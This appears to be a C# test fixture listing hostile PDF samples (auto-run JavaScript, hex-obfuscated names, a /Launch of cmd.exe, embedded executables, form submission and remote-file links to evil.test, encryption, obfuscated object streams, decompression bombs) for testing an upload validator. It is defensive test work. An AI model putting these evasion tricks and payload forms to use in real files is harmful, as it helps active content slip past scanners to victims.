using static AmaWvg.MijnVoorziening.Bestandsfout;
using static AmaWvg.Tests.MijnVoorziening.Bijlagen.Bestanden.PdfBouw;

namespace AmaWvg.Tests.MijnVoorziening.Bijlagen.Bestanden;

/// <summary>PDF files that do something when they are opened, hide that they do, or cannot be looked into.</summary>
internal static class VijandigePdfs
{
    private const string Script = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>";
    private const string Verborgen = "/AA << /O << /S /J#61vaScript /J#53 (x) >> >>";

    public static IReadOnlyDictionary<string, VijandigBestand> Alle { get; } = new Dictionary<string, VijandigBestand>(VijandigeActies.Alle)
    {
        ["script when it opens"] = Actieve(Klassiek(Script)),
        ["script in the list of names"] = Actieve(Klassiek("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>")),
        ["script with its name in code"] = Actieve(Klassiek("/Names << /J#61vaScript 4 0 R >>")),
        ["script with its whole name in code"] = Actieve(Klassiek("/#4A#61#76#61#53#63#72#69#70#74 4 0 R")),
        ["script under its short name"] = Actieve(Klassiek(objecten: [Tekst("<< /JS (x) >>")])),
        ["script under its short name in code"] = Actieve(Klassiek(objecten: [Tekst("<</#4a#53(x)>>")])),
        ["action when it opens, elsewhere"] = Actieve(Klassiek("/OpenAction 4 0 R", objecten: [Tekst("<< /S /URI /URI (https://evil.test) >>")])),
        ["action when a page opens"] = Actieve(Klassiek(objecten: [Tekst("<</Type/Page/AA<</O 5 0 R>>>>")])),
        ["starts a program"] = Actieve(Klassiek(objecten: [Tekst("<< /S /Launch /F (cmd.exe) >>")])),
        ["file inside"] = Actieve(Klassiek(objecten: [Stroom("/Type /EmbeddedFile", Tekst("MZ"))])),
        ["list of files inside"] = Actieve(Klassiek("/Names << /EmbeddedFiles 4 0 R >>")),
        ["list of files with a name"] = Actieve(Klassiek("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>")),
        ["list of files elsewhere with a name"] = Actieve(Klassiek("/Names << /EmbeddedFiles 4 0 R >>", objecten: [Tekst("<< /Names [(a) 5 0 R] >>")])),
        ["list of files with a name of text alone"] = Actieve(Klassiek("/Names << /EmbeddedFiles << /Names [(a)] >> >>")),
        ["list of files whose names stand elsewhere"] = Actieve(Klassiek("/Names << /EmbeddedFiles << /Names 4 0 R >> >>", objecten: [Tekst("[]")])),
        ["list of files with branches"] = Actieve(Klassiek("/Names << /EmbeddedFiles << /Kids [4 0 R] >> >>", objecten: [Tekst("<< /Names [] >>")])),
        ["list of files with another field"] = Actieve(Klassiek("/Names << /EmbeddedFiles << /Names [] /Meer << /F (x) >> >> >>")),
        ["list of files twice"] = Actieve(Klassiek("/Names << /EmbeddedFiles << /Names [] /Names [(a) 4 0 R] >> >>")),
        ["list of files that does not match"] = Actieve(Klassiek("/Names << /EmbeddedFiles << /Names [] [(a) 4 0 R] >> >>")),
        ["list of files as a list"] = Actieve(Klassiek("/Names << /EmbeddedFiles [(a) 4 0 R] >>")),
        ["list of files elsewhere as a list"] = Actieve(Klassiek("/Names << /EmbeddedFiles 4 0 R >>", objecten: [Tekst("[(a) 5 0 R]")])),
        ["list of files in two versions"] = Actieve([.. Klassiek("/Names << /EmbeddedFiles 4 0 R >>", objecten: [Tekst("<< /Names [] >>")]), .. Tekst("4 0 obj\n<< /Names [(a) 5 0 R] >>\nendobj\n%%EOF\n")]),
        ["list of files by way of another object"] = Actieve(Klassiek("/Names << /EmbeddedFiles 4 0 R >>", objecten: [Tekst("5 0 R"), Tekst("<< /Names [(a) 6 0 R] >>")])),
        ["film"] = Actieve(Klassiek(objecten: [Tekst("<< /Subtype /RichMedia >>")])),
        ["film with an action"] = Actieve(Klassiek(objecten: [Tekst("<< /S /Rendition >>")])),
        ["form with scripts"] = Actieve(Klassiek("/AcroForm << /XFA 4 0 R >>")),
        ["form that sends"] = Actieve(Klassiek(objecten: [Tekst("<< /S /SubmitForm /F (https://evil.test) >>")])),
        ["form that reads"] = Actieve(Klassiek(objecten: [Tekst("<< /S /ImportData /F (data) >>")])),
        ["goes to another file"] = Actieve(Klassiek(objecten: [Tekst("<< /S /GoToR /F (\\\\\\\\evil.test\\\\x) >>")])),
        ["goes to a file inside"] = Actieve(Klassiek(objecten: [Tekst("<< /S /GoToE >>")])),

        ["script in packed objects"] = Actieve(Modern(Script)),
        ["script in code in packed objects"] = Actieve(Modern(Verborgen)),
        ["short name in packed objects"] = Actieve(Modern("/AA 9 0 R")),
        ["script in objects in a stream that are not packed"] = Actieve(Modern(Verborgen, objectstroom: Objectstroom("/Type /ObjStm /N 3 /First 20", inhoud => inhoud))),
        ["script in a stream of objects that does not say so"] = Actieve(Modern("/AA 9 0 R", objectstroom: Objectstroom("/N 3 /Fi#72st 20 /F#69lter /Fl#61teDecode"))),
        ["script in a stream called image"] = Actieve(Modern("/AA 9 0 R", objectstroom: Objectstroom("/Subtype /Image /N 3 /First 20 /Filter /FlateDecode"))),
        ["script behind an open bracket"] = Actieve(Klassiek(objecten: [Tekst("null\nendobj\n(\n5 0 obj\n<< /JS (x) >>\nendobj\n")])),
        ["script behind a comment"] = Actieve(Klassiek(objecten: [Tekst("null\nendobj\n% stream\n5 0 obj\n<< /AA 6 0 R >>\nendobj\n% endstream")])),
        ["script in an older version of the file"] = Actieve(Aangevuld(Klassiek(Script))),

        ["password"] = Beveiligde(Klassiek(trailer: "/Encrypt 4 0 R", objecten: [Tekst("<< /Filter /Standard /V 2 /R 3 /P -44 >>")])),
        ["password in code"] = Beveiligde(Klassiek(trailer: "/Encr#79pt << /Filter /Standard >>")),
        ["password on packed objects"] = Beveiligde(Modern(trailer: "/Encrypt 4 0 R")),

        ["objects packed in hexadecimals"] = Ondoorzichtige(Objectstroom("/Type /ObjStm /N 3 /First 20 /Filter /ASCIIHexDecode", Hex)),
        ["objects packed twice"] = Ondoorzichtige(Objectstroom("/Type /ObjStm /N 3 /First 20 /Filter [/FlateDecode /FlateDecode]", inhoud => Ingepakt(Ingepakt(inhoud)))),
        ["objects packed in two ways"] = Ondoorzichtige(Objectstroom("/Type /ObjStm /N 3 /First 20 /Filter [/FlateDecode /ASCIIHexDecode]", inhoud => Ingepakt(Hex(inhoud)))),
        ["objects packed in a way told elsewhere"] = Ondoorzichtige(Objectstroom("/Type /ObjStm /N 3 /First 20 /Filter 9 0 R", Hex)),
        ["objects packed row by row"] = Ondoorzichtige(Objectstroom("/Type /ObjStm /N 3 /First 20 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>", MetVoorspelling)),
        ["objects that cannot be unpacked"] = Ondoorzichtige(Objectstroom(verpakking: inhoud => inhoud)),

        ["200 MB in 200 kB"] = new("x.pdf", () => Klassiek(objecten: [Stroom("/Filter /FlateDecode", Bom(200))]), NietNaTeKijken),
        ["200 MB of objects in 200 kB"] = new("x.pdf", () => Modern(objectstroom: Objectstroom(verpakking: _ => Bom(200))), NietNaTeKijken),
        ["40 MB, four times"] = new("x.pdf", () => Klassiek(objecten: [.. Enumerable.Repeat(Stroom("", Bom(40)), 4)]), NietNaTeKijken),
        ["objects in objects in objects"] = new("x.pdf", () => Klassiek(objecten: [Tekst(string.Concat(Enumerable.Repeat("1 0 obj(", 1_000_000)))]), NietNaTeKijken),
    };

    private static VijandigBestand Actieve(byte[] pdf) => new("x.pdf", () => pdf, Actief);

    private static VijandigBestand Beveiligde(byte[] pdf) => new("x.pdf", () => pdf, Versleuteld);

    private static VijandigBestand Ondoorzichtige(Func<byte[], byte[]> objectstroom) => new("x.pdf", () => Modern("/AA 9 0 R", objectstroom: objectstroom), NietNaTeKijken);
}
